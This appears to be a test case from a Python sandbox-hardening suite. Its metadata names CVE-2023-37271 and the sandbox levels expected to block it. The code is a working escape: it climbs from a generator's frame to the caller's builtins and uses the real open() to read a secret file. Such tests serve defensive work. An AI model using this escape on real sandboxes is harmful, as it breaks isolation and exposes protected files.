"""Climb from a generator's frame to the builtins of whoever runs it.

family: frames
canary: secret
stops: full, container
root: no
related: CVE-2023-37271
"""

frames = []


def climb():
    yield frames[0].gi_frame.f_back.f_builtins


generator = climb()
frames.append(generator)
builtins = next(generator)
print(builtins["open"](SECRET_FILE).read())
